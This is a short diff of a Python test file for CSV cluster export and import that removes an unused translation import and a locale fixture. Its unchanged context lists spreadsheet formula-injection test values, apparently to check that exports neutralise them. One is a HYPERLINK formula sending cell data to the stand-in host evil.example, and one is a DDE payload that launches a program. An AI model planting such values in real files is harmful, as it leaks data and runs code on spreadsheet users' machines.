@@ -7,7 +7,6 @@ export-and-import cycle would eat one apostrophe.
 """
 
 import pytest
-from django.utils import translation
 
 from clusters.exporting import clusters_csv
 from clusters.importing import cluster_import
@@ -17,12 +16,6 @@ from tests.importing.helpers import csv_bytes, row
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@cmd|' /C calc'!A0"]
 COUNT = 620
-
-
-@pytest.fixture(autouse=True)
-def english():
-    with translation.override("en"):
-        yield
 
 
 @pytest.fixture
